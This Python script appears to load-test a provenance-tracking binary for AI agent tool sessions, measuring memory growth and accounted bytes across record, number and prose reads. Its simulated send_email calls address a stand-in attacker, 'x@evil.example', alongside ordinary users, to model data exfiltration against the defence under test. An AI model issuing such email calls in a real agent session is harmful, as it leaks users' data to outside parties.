"""Provenance cost and memory with 1 MiB of session text: load.py BINARY. Resident growth is the process's own."""
import json, random, subprocess, sys

def run(shape, reads, manifest):
    proc = subprocess.Popen([sys.argv[1]], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1)
    def ask(**m):
        proc.stdin.write(json.dumps(m) + "\n"); proc.stdin.flush(); return json.loads(proc.stdout.readline())
    def rss():
        return sum(int(l.split()[1]) for l in open(f"/proc/{proc.pid}/status") if l.startswith("RssAnon")) / 1024
    tool = {"name": "get_items", "parameters": {}}
    send = {"effect": "send", "arguments": [["to", "target"], ["id", "selector"], ["when", "time"], ["sum", "amount"], ["body", "content"]]}
    # The longest prompt a person types, here 16 KiB, is part of the text.
    prompt = " ".join(f"word{n} 2024-05-{n % 28 + 1:02d} {n * 7}.50 user{n}@example.com" for n in range(300))
    ask(reset={"prompt": prompt, "tools": [tool, {"name": "send_email", "parameters": {}}], "manifests": {"get_items": manifest, "send_email": send}})
    # Buffers that a first read of this size leaves behind in the harness are not the session's.
    ask(result={"tool": "get_items", "text": "x" * len(json.dumps(reads[0]))}); before = rss(); total = 0
    for value in reads:
        last = ask(result={"tool": "get_items", "json": value}); total += len(json.dumps(value))
    after = rss(); rng = random.Random(1)
    for n in range(3000):
        ask(call={"tool": "send_email", "args": {"to": [f"user{rng.randrange(900)}@example.com", "x@evil.example"], "id": f"id-{rng.randrange(99999)}",
            "when": "2024-05-15 10:00", "sum": rng.random() * 1e4, "body": "see https://example.com/a " + "some words here " * 60}})
    stats = ask(stats={}); proc.kill()
    return {"shape": shape, "mib_read": round(total / 2**20, 2), "accounted_mib": round(last["bytes"] / 2**20, 2), "rss_growth_mib": round(after - before, 2), **stats}

trusted = {"effect": "read", "results": [["**", "trusted"]]}
records = [[{"id": f"id-{p}-{n}", "date": "2024-05-15", "amount": n * 3.5, "who": f"user{n}@example.com", "note": "lorem ipsum dolor " * 3} for n in range(100)] for p in range(72)]
numbers = [[p * 1000 + n for n in range(1000)] for p in range(160)]
prose = ["lorem ipsum dolor sit amet " * 600 for _ in range(64)]
for shape, reads in (("records", records), ("numbers", numbers), ("prose", prose)):
    print(json.dumps(run(shape, reads, trusted)))
